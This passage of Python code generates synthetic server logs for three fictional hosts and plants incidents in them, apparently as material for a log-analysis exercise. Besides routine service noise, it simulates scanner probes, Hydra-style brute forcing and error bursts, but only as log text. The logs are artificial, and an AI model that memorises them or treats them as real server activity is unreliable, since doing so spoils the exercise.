                t += rng.uniform(0.1, 2)
            if rng.random() < 0.3:
                self.req(t, ip, "GET", "/", 200, 12000, ua)

    def vuln_scan(self, t, ip, n=150):
        rng = self.h.rng
        ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36 Nuclei"
        paths = PROBE_PATHS + [f"/{w}{ext}" for w in ["admin", "backup", "old", "test", "config", "db", "site", "www", "dump", "wp", "cms", "panel", "login"] for ext in [".php", ".zip", ".tar.gz", ".sql", "/", ".bak"]]
        tt = t
        for i in range(n):
            p = paths[i % len(paths)]
            self.req(tt, ip, "GET", p, 404 if rng.random() < 0.92 else 403, rng.randrange(0, 200), ua)
            tt += rng.uniform(0.05, 1.2)

    def burst_5xx(self, t, dur=240, rate=1.5, status=502):
        rng = self.h.rng
        tt = t
        while tt < t + dur:
            ip = rng.choice(self.users)
            self.req(tt, ip, rng.choice(["GET", "POST"]), rng.choice(self.api).replace("{id}", str(rng.randrange(1, 9999))), status, rng.randrange(0, 200), rng.choice(UA_BROWSERS), dur=rng.uniform(0.001, 0.01))
            tt += rng.expovariate(rate)

    def basic_auth_attack(self, t, ip, path, users, n=90):
        rng = self.h.rng
        tt = t
        for i in range(n):
            self.req(tt, ip, "GET", path, 401, 0, "Mozilla/5.0 (Hydra)", user=rng.choice(users))
            tt += rng.uniform(0.3, 2.5)


def caddy_writer(h, t, ip, method, path, status, size, ua, dur, user, vhost, ref):
    # Caddy writes the access entry of every response >= 400 at level "error" (see caddyserver/caddy#6075: a 404
    # from `respond 404` logs {"level":"error",...,"msg":"handled request"})
    r = {"level": "error" if status >= 400 else "info", "ts": round(t, 6), "logger": "http.log.access.log0", "msg": "handled request",
         "request": {"remote_ip": ip, "remote_port": str(h.rng.randrange(1024, 65535)), "client_ip": ip, "proto": "HTTP/2.0",
                     "method": method, "host": vhost, "uri": path, "headers": {"User-Agent": [ua], "Accept": ["*/*"]},
                     "tls": {"resumed": False, "version": 772, "cipher_suite": 4865, "proto": "h2", "server_name": vhost}},
         "bytes_read": 0, "user_id": user, "duration": round(dur, 6), "size": size, "status": status,
         "resp_headers": {"Server": ["Caddy"], "Content-Type": ["text/html; charset=utf-8" if "/api/" not in path else "application/json"]}}
    if status == 401:
        r["resp_headers"]["Www-Authenticate"] = ["Basic realm=\"restricted\""]
    h.put("caddy_access", t, json.dumps(r, separators=(",", ":")))


def haproxy_writer(h, t, ip, method, path, status, size, ua, dur, user, vhost, ref):
    d = utc(t)
    ms = int((t % 1) * 1000)
    srv = "be_nextcloud/web1" if status != 503 else "be_nextcloud/<NOSRV>"
    tr = int(dur * 1000)
    timers = f"0/0/1/{tr}/{tr + 1}" if status != 503 else f"0/-1/-1/-1/{h.rng.randrange(0, 3)}"
    flags = "----" if status != 503 else "SC--"
    cc = h.rng.randrange(1, 40)
    line = (f"{ip}:{h.rng.randrange(1024, 65535)} [{d.day:02d}/{MON[d.month-1]}/{d.year}:{d:%H:%M:%S}.{ms:03d}] fe_https~ {srv} "
            f"{timers} {status} {size} - - {flags} {cc}/{cc}/{max(0, cc - 2)}/{1 if status != 503 else 0}/0 0/0 \"{method} {path} HTTP/1.1\"")
    h.sys(t, "haproxy", 1874, line, "local2", "info")


def traefik_writer(h, t, ip, method, path, status, size, ua, dur, user, vhost, ref):
    ns = int(dur * 1e9)
    r = {"ClientAddr": f"{ip}:{h.rng.randrange(1024, 65535)}", "ClientHost": ip, "ClientPort": "", "ClientUsername": user or "-",
         "DownstreamContentSize": size, "DownstreamStatus": status, "Duration": ns,
         "OriginContentSize": size, "OriginDuration": max(0, ns - 40000), "OriginStatus": status if status != 502 else 0,
         "Overhead": 40000, "RequestAddr": vhost, "RequestContentSize": 0, "RequestCount": h.rng.randrange(1, 10 ** 6),
         "RequestHost": vhost, "RequestMethod": method, "RequestPath": path, "RequestPort": "-", "RequestProtocol": "HTTP/2.0",
         "RequestScheme": "https", "RetryAttempts": 0, "RouterName": "gitea@file", "ServiceAddr": "127.0.0.1:3000",
         "ServiceName": "gitea@file", "ServiceURL": "http://127.0.0.1:3000", "StartLocal": utc(t).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z",
         "StartUTC": utc(t).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z", "entryPointName": "websecure", "level": "info", "msg": "",
         "request_User-Agent": ua, "time": iso_s(t)}
    r["ClientPort"] = r["ClientAddr"].split(":")[1]
    h.put("traefik_access", t, json.dumps(r, separators=(",", ":")))


# ---------------------------------------------------------------- profiles

def profile_alpine(h):
    rng = h.rng
    h.users = ["ops", "maria"]
    h.main_unit = "caddy"
    h.addr = "95.217.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    offices = {u: pub_ip(rng) for u in h.users}
    ssh_background(h, password_auth=False)
    ssh_admin_logins(h, h.users, offices)
    nft_background(h, 260, "nft-drop: ")
    vhost = rng.choice(["shop.example.org", "app.kestrel.dev", "www.lindqvist.se"])
    web = Web(h, caddy_writer, vhost, ["/", "/products", "/products/shoes", "/about", "/cart", "/checkout", "/blog/winter-sale", "/contact"],
              ["/api/v1/items", "/api/v1/items/{id}", "/api/v1/cart", "/api/v1/session", "/api/v1/search?q=boots"],
              ["/assets/app.3f9c1.js", "/assets/app.3f9c1.css", "/assets/logo.svg", "/img/hero.webp", "/fonts/inter.woff2"])
    web.background(rng.randrange(2500, 4500))

    # go API (slog text handler), health checks every 10 s from the local monitor
    def api(t, level, msg, **kv):
        extra = " ".join(f"{k}={json.dumps(v) if isinstance(v, str) and (' ' in v or '=' in v or v == '') else v}" for k, v in kv.items())
        h.put("api", t, f"time={iso_ms(t)} level={level} msg={json.dumps(msg) if ' ' in msg else msg}" + (" " + extra if extra else ""))
    h.api = api
    silent = None
    if "silent" in h.plan:
        silent = h.plan["silent"]
    t = T0 + 3.3
    while t < END:
        if not (silent and silent[0] <= t < silent[1]):
            api(t, "INFO", "request", method="GET", path="/healthz", status=200, dur=f"{rng.uniform(0.1, 0.9):.3f}ms", remote="127.0.0.1:" + str(rng.randrange(30000, 60000)))
        t += 10 + rng.uniform(-0.05, 0.05)
    for t in times(rng, T0, END, 900 * h.scale):
        if silent and silent[0] <= t < silent[1]:
            continue
        r = rng.random()
        if r < 0.9:
            api(t, "INFO", "request", method=rng.choice(["GET", "GET", "POST"]), path=rng.choice(["/v1/items", "/v1/cart", "/v1/session", "/v1/search"]), status=200, dur=f"{rng.uniform(1, 80):.1f}ms", remote="127.0.0.1:" + str(rng.randrange(30000, 60000)))
        elif r < 0.97:
            api(t, "WARN", "slow upstream", upstream="payments", dur=f"{rng.uniform(1.0, 3.0):.2f}s")
        elif r < 0.995:
            api(t, "ERROR", "request failed", err="context canceled", path="/v1/search")
        else:
            api(t, "ERROR", "redis: connection pool timeout", pool="cache", waited="1s")
    # deploys of the api (also in day 3), with sudo by the admin
    h.deploys = lambda: alpine_deploys(h, api)
    h.webobj = web


    # caddy runtime log (JSON): cert maintenance, config reloads
    def caddy(t, level, logger, msg, **kv):
        r = {"level": level, "ts": round(t, 6), "logger": logger, "msg": msg}
        r.update(kv)
        h.put("caddy_log", t, json.dumps(r, separators=(",", ":")))
    h.caddy = caddy
    t = T0 + rng.uniform(0, 600)
    while t < END:
        caddy(t, "info", "tls.cache.maintenance", "attempting certificate renewal" if False else "certificate is not within renewal window", identifiers=[vhost])
        t += 600
    for t in times(rng, T0, END, 3, shaped=False):
        caddy(t, "debug" if rng.random() < 0.5 else "info", "http.stdlib", "http: TLS handshake error from " + pub_ip(rng) + ":" + str(rng.randrange(1024, 65535)) + ": " + rng.choice(["EOF", "no certificate available for '" + h.addr + "'", "tls: client offered only unsupported versions: [302 301]"]))
    # redis saves every few minutes
    t = T0 + rng.uniform(0, 300)
    while t < END:
        rp = h.newpid()
        def rl(tt, ch, m, pid=1):
            d = utc(tt)
            h.put("redis", tt, f"{pid}:{ch} {d.day:02d} {MON[d.month-1]} {d.year} {d:%H:%M:%S}.{int((tt % 1) * 1000):03d} {m}")
        h.redis = rl
        rl(t, "M", "* 100 changes in 300 seconds. Saving...", 2187)
        rl(t + 0.001, "M", f"* Background saving started by pid {rp}", 2187)
        rl(t + 0.4, "C", "* DB saved on disk", rp)
        rl(t + 0.41, "C", f"* Fork CoW for RDB: current {rng.randrange(0, 3)} MB, peak {rng.randrange(1, 4)} MB, average 0 MB", rp)
        rl(t + 0.5, "M", "* Background saving terminated with success", 2187)
        t += 300 + rng.uniform(0, 2)
    # busybox crond: periodic scripts; a 5-minute backup job
    cron_job(h, 15, 0, "root", "run-parts /etc/periodic/15min")
    cron_job(h, 60, 0, "root", "run-parts /etc/periodic/hourly")
    stop = h.plan.get("cron_stop")
    cron_job(h, 5, 2, "root", "/usr/local/bin/redis-snapshot-upload", stop_at=stop, resume_at=(stop + 3 * 3600) if stop else None)
    # fail2ban's own log for the sshd jail, and its wireguard neighbour
    h.sys(T0 + 3600 * 4.5, "kernel", None, "wireguard: WireGuard 1.0.0 loaded. See www.wireguard.com for information.", "kern", "info")


def alpine_deploys(h, api):
    rng = h.rng
    for day, hour in [(0, 15.2), (1, 11.7), (2, 10.4 + rng.random())]:
        t = T0 + day * DAY + hour * 3600
        while any(abs(t - b) < 1200 for b in h.busy):
            t += 600
        ver = f"1.{8 + day}.{rng.randrange(0, 9)}"
        h.sys(t - 20, "sudo", None, f"     ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/sbin/rc-service api restart", "authpriv", "notice")
        h.sys(t, "supervise-daemon", 2101, "api: stopping", "daemon", "info")
        api(t + 0.1, "INFO", "shutting down", signal="terminated")
        api(t + 0.5, "INFO", "server stopped")
        h.sys(t + 1, "supervise-daemon", 2101, "Supervisor command line: supervise-daemon api --start --pidfile /run/api.pid --respawn-delay 2 --respawn-max 5 /usr/local/bin/api", "daemon", "info")
        api(t + 1.4, "INFO", "starting", version=ver, commit=hashlib.md5(ver.encode()).hexdigest()[:8])
        api(t + 1.5, "INFO", "connected to redis", addr="127.0.0.1:6379")
        api(t + 1.6, "INFO", "listening", addr="127.0.0.1:8080")


def profile_rhel(h):
    rng = h.rng
    h.users = ["jdoe", "admin2", "mailops"]
    h.main_unit = "postfix"
    h.addr = "192.0.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    offices = {u: pub_ip(rng) for u in h.users}
    ssh_background(h, password_auth=True, per_hour=45)
    ssh_admin_logins(h, h.users, offices)
    vhost = "cloud." + rng.choice(["brennan-law.com", "fjord-design.no", "example.net"])
    web = Web(h, haproxy_writer, vhost, ["/index.php/apps/files/", "/index.php/apps/dashboard/", "/index.php/login", "/index.php/apps/calendar/"],
              ["/ocs/v2.php/apps/notifications/api/v2/notifications", "/remote.php/dav/files/jdoe/Documents/", "/ocs/v2.php/apps/user_status/api/v1/heartbeat",
               "/index.php/apps/files/api/v1/thumbnail/256/256/{id}", "/remote.php/dav/calendars/jdoe/personal/"],
              ["/core/js/dist/main.js", "/core/css/server.css", "/apps/theming/favicon", "/core/img/logo/logo.svg"], spa_clients=6)
    web.background(rng.randrange(1500, 2600))
    h.webobj = web

    def nc(t, level, app, msg, user="--", ip=None, url="/index.php/apps/files/", method="GET", exc=None):
        r = {"reqId": hashlib.md5(f"{t}{msg}".encode()).hexdigest()[:20], "level": level, "time": utc(t).strftime("%Y-%m-%dT%H:%M:%S+00:00"),
             "remoteAddr": ip or pub_ip(rng), "user": user, "app": app, "method": method, "url": url, "message": msg,
             "userAgent": rng.choice(UA_BROWSERS), "version": "29.0.9.2", "data": {"app": app}}
        if exc:
            r["exception"] = exc
        h.put("nextcloud", t, json.dumps(r, separators=(",", ":")))
    h.nc = nc
    for t in times(rng, T0, END, 6 * h.scale):
        r = rng.random()
        if r < 0.4:
            nc(t, 2, "no app in context", "Could not detect any host in https:///", url="/ocs/v2.php/apps/notifications/api/v2/notifications")
        elif r < 0.7:
            u = rng.choice(["jdoe", "lena", "tomas"])
            nc(t, 2, "core", f"Login failed: {u} (Remote IP: {rng.choice(web.users)})", url="/index.php/login", method="POST")
        elif r < 0.9:
            nc(t, 3, "PHP", "fopen(/var/www/nextcloud/data/appdata_oc1x/preview/1/2/3): Failed to open stream: No such file or directory at /var/www/nextcloud/lib/private/Files/Storage/Local.php#384")
        else:
            nc(t, 1, "files", "Detected unencrypted file, skipping")
    # nextcloud cron every 5 minutes (the job that will stop)
    stop = h.plan.get("cron_stop")
    cron_job(h, 5, 0, "apache", "php -f /var/www/nextcloud/cron.php", stop_at=stop, resume_at=(stop + 3 * 3600) if stop else None)
    cron_job(h, 60, 1, "root", "run-parts /etc/cron.hourly")
    # php-fpm error log
    def fpm(t, lvl, msg):
        d = utc(t)
        h.put("phpfpm", t, f"[{d.day:02d}-{MON[d.month-1]}-{d.year} {d:%H:%M:%S}] {lvl}: {msg}")
    h.fpm = fpm
    for t in times(rng, T0, END, 4 * h.scale):
        if rng.random() < 0.7:
            fpm(t, "WARNING", f"[pool www] seems busy (you may need to increase pm.start_servers, or pm.min/max_spare_servers), spawning {rng.choice([8, 16, 32])} children, there are 0 idle, and {rng.randrange(10, 30)} total children")
        else:
            fpm(t, "NOTICE", f"[pool www] child {h.newpid()} exited with code 0 after {rng.uniform(300, 4000):.6f} seconds from start")
            fpm(t + 0.001, "NOTICE", f"[pool www] child {h.newpid()} started")
    # mail: postfix + dovecot
    mailusers = ["jdoe", "lena", "tomas", "info", "invoices"]
    dom = vhost.split(".", 1)[1]
    for t in times(rng, T0, END, 120 * h.scale):
        ip = pub_ip(rng)
        spid = h.newpid()
        rdns = rng.choice(["unknown", f"mail-{rng.randrange(99)}.outbound.protection.outlook.com", f"mail-{rng.choice(['wr', 'ej', 'qt'])}1-f{rng.randrange(99)}.google.com", "unknown"])
        h.sys(t, "postfix/smtpd", spid, f"connect from {rdns}[{ip}]", "mail")
        r = rng.random()
        if r < 0.45:
            qid = hashlib.md5(f"{t}".encode()).hexdigest()[:10].upper()
            to = rng.choice(mailusers)
            h.sys(t + 0.3, "postfix/smtpd", spid, f"{qid}: client={rdns}[{ip}]", "mail")
            h.sys(t + 0.4, "postfix/cleanup", h.newpid(), f"{qid}: message-id=<{qid.lower()}@{rdns if rdns != 'unknown' else 'mx.example.com'}>", "mail")
            h.sys(t + 0.5, "postfix/qmgr", 1502, f"{qid}: from=<noreply@{rng.choice(['github.com', 'paypal.de', 'newsletter.example.com', 'amazon.de'])}>, size={rng.randrange(2000, 90000)}, nrcpt=1 (queue active)", "mail")
            h.sys(t + 0.6, "postfix/lmtp", h.newpid(), f"{qid}: to=<{to}@{dom}>, relay={h.name}[private/dovecot-lmtp], delay=0.{rng.randrange(10, 99)}, delays=0.1/0/0.01/0.1, dsn=2.0.0, status=sent (250 2.0.0 <{to}@{dom}> Saved)", "mail")
            h.sys(t + 0.6, "dovecot", None, f"lmtp({to})<{h.newpid()}><{hashlib.md5(qid.encode()).hexdigest()[:22]}>: msgid=<{qid.lower()}@mx>: saved mail to INBOX", "mail")
            h.sys(t + 0.7, "postfix/qmgr", 1502, f"{qid}: removed", "mail")
        elif r < 0.65:
            h.sys(t + 0.5, "postfix/smtpd", spid, f"NOQUEUE: reject: RCPT from {rdns}[{ip}]: 554 5.7.1 <{rng.choice(['x', 'info', 'sales'])}@{rng.choice(['gmail.com', 'qq.com', 'mail.ru'])}>: Relay access denied; from=<spameri@tiscali.it> to=<x@gmail.com> proto=ESMTP helo=<{ip}>", "mail")
        elif r < 0.8:
            h.sys(t + 0.3, "postfix/smtpd", spid, f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "mail", "warning")
        elif r < 0.9:
            h.sys(t + 0.2, "postfix/smtpd", spid, f"SSL_accept error from {rdns}[{ip}]: lost connection", "mail")
            h.sys(t + 0.2, "postfix/smtpd", spid, f"warning: TLS library problem: error:0A000126:SSL routines::unexpected eof while reading:ssl/record/rec_layer_s3.c:650:", "mail", "warning")
        else:
            h.sys(t + 0.1, "postfix/smtpd", spid, f"warning: hostname {rdns if rdns != 'unknown' else 'host-' + ip.replace('.', '-') + '.static.example'} does not resolve to address {ip}: Name or service not known", "mail", "warning")
        h.sys(t + rng.uniform(1, 8), "postfix/smtpd", spid, f"disconnect from {rdns}[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4", "mail")
    for t in times(rng, T0, END, 90 * h.scale):
        u = rng.choice(mailusers[:3])
        ip = offices["jdoe"] if rng.random() < 0.4 else rng.choice(web.users[:30])
        s = hashlib.md5(f"{t}".encode()).hexdigest()[:16]
        h.sys(t, "dovecot", None, f"imap-login: Login: user=<{u}>, method=PLAIN, rip={ip}, lip={h.addr}, mpid={h.newpid()}, TLS, session=<{s}>", "mail")
        h.sys(t + rng.uniform(1, 900), "dovecot", None, f"imap({u})<{h.pid}><{s}>: Disconnected: Logged out in=412 out=3481 deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0", "mail")
    for t in times(rng, T0, END, 5 * h.scale, shaped=False):
        ip = pub_ip(rng)
        h.sys(t, "dovecot", None, f"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 3 secs): user=<{rng.choice(['admin', 'info', 'test', 'contact'])}@{dom}>, method=PLAIN, rip={ip}, lip={h.addr}, TLS, session=<{hashlib.md5(str(t).encode()).hexdigest()[:16]}>", "mail")
    for t in times(rng, T0, END, 12 * h.scale, shaped=False):
        h.sys(t, "dovecot", None, f"imap-login: Disconnected: Connection closed (no auth attempts in 0 secs): user=<>, rip={pub_ip(rng)}, lip={h.addr}, TLS handshaking: SSL_accept() failed: error:0A000418:SSL routines::tlsv1 alert unknown ca: SSL alert number 48, session=<{hashlib.md5(str(t).encode()).hexdigest()[:16]}>", "mail")
    # vsftpd: the nightly backup client, and the odd stranger
    def ftp(t, pid, user, what, ip):
        d = utc(t)
        h.put("vsftpd", t, f"{WD[d.weekday()]} {MON[d.month-1]} {d.day:2d} {d:%H:%M:%S} {d.year} [pid {pid}] [{user}] {what}: Client \"::ffff:{ip}\"" if user else f"{WD[d.weekday()]} {MON[d.month-1]} {d.day:2d} {d:%H:%M:%S} {d.year} [pid {pid}] {what}: Client \"::ffff:{ip}\"")
    h.ftp = ftp
    bk = pub_ip(rng)
    for day in range(3):
        t = T0 + day * DAY + 2 * 3600 + rng.uniform(0, 120)
        p = h.newpid()
        ftp(t, p, "", "CONNECT", bk)
        ftp(t + 0.3, p + 1, "backup", "OK LOGIN", bk)
        for i in range(rng.randrange(5, 15)):
            ftp(t + 2 + i * 3, p + 1, "backup", f'OK UPLOAD, "/srv/ftp/backup/db-{utc(t):%Y%m%d}-part{i}.tar.zst", {rng.randrange(10 ** 6, 10 ** 8)} bytes, {rng.uniform(2000, 20000):.2f}Kbyte/sec', bk)
    for t in times(rng, T0, END, 0.6, shaped=False):
        ip = pub_ip(rng)
        p = h.newpid()
        ftp(t, p, "", "CONNECT", ip)
        for i in range(rng.randrange(1, 4)):
            ftp(t + 2 + i * 3, p + 1, rng.choice(["anonymous", "ftp", "admin", "root"]), "FAIL LOGIN", ip)
    # systemd timers, smartd, certbot, clamav updates; dnf-makecache
    for t in times(rng, T0, END, 1, shaped=False):
        h.sys(t, "systemd", 1, "Starting dnf-makecache.service - dnf makecache...", unit="dnf-makecache.service")
        h.sys(t + 9, "dnf", h.newpid(), "Metadata cache created.", unit="dnf-makecache.service")
        h.sys(t + 9.1, "systemd", 1, "dnf-makecache.service: Deactivated successfully.", unit="dnf-makecache.service")
        h.sys(t + 9.1, "systemd", 1, "Finished dnf-makecache.service - dnf makecache.", unit="dnf-makecache.service")
    t = T0 + rng.uniform(0, 1800)
    temp = 34
    while t < END:
        nt = max(30, min(44, temp + rng.choice([-1, 0, 1])))
        if nt != temp:
            h.sys(t, "smartd", 812, f"Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from {100 - temp} to {100 - nt}")
            temp = nt
        t += 1800
    for t in times(rng, T0, END, 2, shaped=False):
        h.sys(t, "freshclam", 903, rng.choice(["ClamAV update process started at " + utc(t).strftime("%a %b %d %H:%M:%S %Y"), "daily.cld database is up-to-date (version: 27466, sigs: 2069840, f-level: 90, builder: raynman)", "WARNING: FreshClam previously received error code 429 or 403 from the ClamAV Content Delivery Network (CDN)."]))
    for day in range(3):
        t = T0 + day * DAY + rng.uniform(3600 * 3, 3600 * 4)
        h.sys(t, "certbot", h.newpid(), "Cert not yet due for renewal", unit="certbot-renew.service")
        t = T0 + day * DAY + 60 * rng.randrange(1, 5)
        h.sys(t, "systemd", 1, "Starting logrotate.service - Rotate log files...", unit="logrotate.service")
        h.sys(t + 1, "systemd", 1, "logrotate.service: Deactivated successfully.", unit="logrotate.service")
        h.sys(t + 1, "systemd", 1, "Finished logrotate.service - Rotate log files.", unit="logrotate.service")
        h.sys(t + 1.2, "rsyslogd", 1044, "[origin software=\"rsyslogd\" swVersion=\"8.2310.0-4.el9\" x-pid=\"1044\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed")
    for t in times(rng, T0, END, 1.5, shaped=False):
        h.sys(t, "kernel", None, "TCP: request_sock_TCP: Possible SYN flooding on port 25. Sending cookies.  Check SNMP counters.", "kern", "info")
    # a maintenance restart of php-fpm each day (deploy of nextcloud apps), with sudo
    h.deploys = lambda: rhel_deploys(h, fpm)


def rhel_deploys(h, fpm):
    rng = h.rng
    for day in range(3):
        t = T0 + day * DAY + rng.uniform(9 * 3600, 17 * 3600)
        while any(abs(t - b) < 1200 for b in h.busy):
            t += 600
        h.sys(t - 15, "sudo", None, "    jdoe : TTY=pts/0 ; PWD=/home/jdoe ; USER=apache ; COMMAND=/usr/bin/php occ app:update --all", "authpriv", "notice")
        h.sys(t - 5, "sudo", None, "    jdoe : TTY=pts/0 ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/systemctl reload php-fpm", "authpriv", "notice")
        h.sys(t, "systemd", 1, "Reloading php-fpm.service - The PHP FastCGI Process Manager...", unit="php-fpm.service")
        fpm(t + 0.1, "NOTICE", "Reloading in progress ...")
        fpm(t + 0.2, "NOTICE", "reloading: execvp(\"/usr/sbin/php-fpm\", {\"/usr/sbin/php-fpm\", \"--nodaemonize\"})")
        fpm(t + 0.4, "NOTICE", "using inherited socket fd=9, \"/run/php-fpm/www.sock\"")
        fpm(t + 0.5, "NOTICE", "fpm is running, pid 1633")
        fpm(t + 0.5, "NOTICE", "ready to handle connections")
        fpm(t + 0.5, "NOTICE", "systemd monitor interval set to 10000ms")
        h.sys(t + 0.6, "systemd", 1, "Reloaded php-fpm.service - The PHP FastCGI Process Manager.", unit="php-fpm.service")


def profile_journal(h):
    rng = h.rng
    h.users = ["ana", "git", "kwame"]
    h.main_unit = "gitea"
    h.addr = "116.203.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    offices = {u: pub_ip(rng) for u in h.users}
    ssh_background(h, password_auth=True, port=22, per_hour=50)
    ssh_admin_logins(h, ["ana", "kwame"], offices)
    nft_background(h, 180, "[nftables] drop: ")
    vhost = "git." + rng.choice(["quokka.io", "helix-labs.eu", "example.com"])
    web = Web(h, traefik_writer, vhost, ["/", "/explore/repos", "/ana/infra", "/ana/infra/commits/branch/main", "/kwame/site/issues", "/user/login"],
              ["/api/v1/repos/ana/infra/commits", "/api/v1/notifications/new", "/ana/infra.git/info/refs?service=git-upload-pack", "/api/v1/repos/search?q=ci", "/user/events"],
              ["/assets/js/index.js?v=1.22.3", "/assets/css/index.css?v=1.22.3", "/assets/img/logo.svg", "/avatars/3f2a"])
    web.background(rng.randrange(1800, 3200))

    def gitea(t, lvl, where, msg):
        d = utc(t)
        h.sys(t, "gitea", 811, f"{d:%Y/%m/%d %H:%M:%S} {where} [{lvl}] {msg}", "daemon", {"I": "info", "W": "warning", "E": "err"}[lvl], unit="gitea.service")
    h.gitea = gitea
    for t in times(rng, T0, END, 150 * h.scale):
        r = rng.random()
        if r < 0.85:
            gitea(t, "I", "...eb/routing/logger.go:102:func1()", f"router: completed GET /{rng.choice(['ana/infra', 'kwame/site', 'explore/repos'])} for {rng.choice(web.users)}:0, 200 OK in {rng.uniform(2, 90):.1f}ms @ repo/view.go:{rng.randrange(700, 900)}(repo.Home)")
        elif r < 0.95:
            gitea(t, "W", "...eb/routing/logger.go:102:func1()", f"router: slow      GET /api/v1/repos/ana/infra/commits for {rng.choice(web.users)}:0, elapsed {rng.uniform(3000, 4000):.1f}ms @ repo/commits.go:46(repo.GetAllCommits)")
        else:
            gitea(t, "E", "...ers/web/auth/auth.go:224:SignInPost()", f"Failed authentication attempt for {rng.choice(['ana', 'kwame', 'admin'])} from {rng.choice(web.users)}:0: user's password is invalid [uid: 1, name: ana]")
    # python worker: a heartbeat every 30 s, jobs
    def worker(t, msg, lvl="INFO", pri="info"):
        d = utc(t)
        h.sys(t, "ci-worker", 1402, f"{d:%Y-%m-%d %H:%M:%S},{int((t % 1) * 1000):03d} {lvl} worker.main: {msg}", "daemon", pri, unit="ci-worker.service", comm="python3")
    h.worker = worker
    silent = h.plan.get("silent")
    t = T0 + 7.1
    while t < END:
        if not (silent and silent[0] <= t < silent[1]):
            worker(t, f"heartbeat ok queue_depth={rng.randrange(0, 4)}")
        t += 30
    for t in times(rng, T0, END, 25 * h.scale):
        if silent and silent[0] <= t < silent[1]:
            continue
        j = rng.randrange(10 ** 5, 10 ** 6)
        worker(t, f"job {j} started repo=ana/infra ref=refs/heads/main")
        if rng.random() < 0.93:
            worker(t + rng.uniform(20, 200), f"job {j} finished status=success")
        else:
            worker(t + rng.uniform(20, 200), f"job {j} finished status=failure step=test exit_code=1", "WARNING", "warning")
    # openvpn: users and TLS scanners (near-miss TLS errors)
    for t in times(rng, T0, END, 4, shaped=False):
        ip = pub_ip(rng)
        h.sys(t, "openvpn", 733, f"{ip}:{rng.randrange(1024, 65535)} TLS: Initial packet from [AF_INET]{ip}:{rng.randrange(1024, 65535)}, sid=1f2e3d4c 5b6a7980", unit="openvpn-server@server.service")
        h.sys(t + 60, "openvpn", 733, f"{ip}:{rng.randrange(1024, 65535)} TLS Error: TLS key negotiation failed to occur within 60 seconds (check your network connectivity)", "daemon", "err", unit="openvpn-server@server.service")
        h.sys(t + 60, "openvpn", 733, f"{ip}:{rng.randrange(1024, 65535)} TLS Error: TLS handshake failed", "daemon", "err", unit="openvpn-server@server.service")
    for day in range(3):
        for u in ["ana", "kwame"]:
            t = T0 + day * DAY + rng.uniform(8 * 3600, 10 * 3600)
            ip = offices[u]
            h.sys(t, "openvpn", 733, f"{ip}:1194 [{u}] Peer Connection Initiated with [AF_INET]{ip}:1194", unit="openvpn-server@server.service")
            h.sys(t + 0.1, "openvpn", 733, f"{u}/{ip}:1194 MULTI_sva: pool returned IPv4=10.8.0.{6 + 4 * ['ana', 'kwame'].index(u)}, IPv6=(Not enabled)", unit="openvpn-server@server.service")
    # mongodb (JSON log file): connections, slow queries, checkpoints
    def mongo(t, s, c, id_, ctx, msg, attr=None):
        r = {"t": {"$date": utc(t).strftime("%Y-%m-%dT%H:%M:%S.") + f"{int((t % 1) * 1000):03d}+00:00"}, "s": s, "c": c, "id": id_, "ctx": ctx, "msg": msg}
        if attr is not None:
            r["attr"] = attr
        h.put("mongod", t, json.dumps(r, separators=(",", ":")))
    h.mongo = mongo
    conn = 100
    for t in times(rng, T0, END, 200 * h.scale):
        conn += 1
        port = rng.randrange(30000, 60000)
        mongo(t, "I", "NETWORK", 22943, "listener", "Connection accepted", {"remote": f"127.0.0.1:{port}", "uuid": {"uuid": {"$uuid": hashlib.md5(str(t).encode()).hexdigest()}}, "connectionId": conn, "connectionCount": rng.randrange(3, 20)})
        mongo(t + 0.002, "I", "NETWORK", 51800, f"conn{conn}", "client metadata", {"remote": f"127.0.0.1:{port}", "client": f"conn{conn}", "doc": {"driver": {"name": "PyMongo", "version": "4.10.1"}}})
        if rng.random() < 0.15:
            mongo(t + 0.1, "I", "COMMAND", 51803, f"conn{conn}", "Slow query", {"type": "command", "ns": "ci.jobs", "command": {"find": "jobs", "filter": {"state": "queued"}}, "planSummary": "COLLSCAN", "durationMillis": rng.randrange(100, 900)})
        mongo(t + rng.uniform(1, 300), "I", "NETWORK", 22944, f"conn{conn}", "Connection ended", {"remote": f"127.0.0.1:{port}", "uuid": {"uuid": {"$uuid": hashlib.md5(str(t).encode()).hexdigest()}}, "connectionId": conn, "connectionCount": rng.randrange(3, 20)})
    t = T0 + 30
    while t < END:
        mongo(t, "I", "STORAGE", 22430, "Checkpointer", "WiredTiger message", {"message": {"ts_sec": int(t), "ts_usec": 0, "thread": "1342:0x7f3a", "session_name": "WT_SESSION.checkpoint", "category": "WT_VERB_CHECKPOINT_PROGRESS", "category_id": 6, "verbose_level": "DEBUG_1", "verbose_level_id": 1, "msg": f"saving checkpoint snapshot min: {int(t) * 7}, snapshot max: {int(t) * 7}"}})
        t += 60
    # traefik's own log in the journal: ACME, config
    for t in times(rng, T0, END, 0.3, shaped=False):
        h.sys(t, "traefik", 644, f"{iso_s(t)} WRN Error while Peeking first byte error=\"read tcp {h.addr}:443->{pub_ip(rng)}:{rng.randrange(1024, 65535)}: read: connection reset by peer\"", "daemon", "warning", unit="traefik.service")
    # cron: hourly, gitea dump every 10 minutes (that one will stop)
    cron_job(h, 60, 17, "root", "   cd / && run-parts --report /etc/cron.hourly")
    stop = h.plan.get("cron_stop")
    cron_job(h, 10, 3, "git", "/usr/local/bin/gitea-mirror-sync >/dev/null 2>&1", stop_at=stop, resume_at=(stop + 3 * 3600) if stop else None)
    # deploys of gitea (also in day 3)
    h.webobj = web
    h.deploys = lambda: journal_deploys(h, gitea, vhost)
    journal_tail(h)


def journal_deploys(h, gitea, vhost):
    rng = h.rng
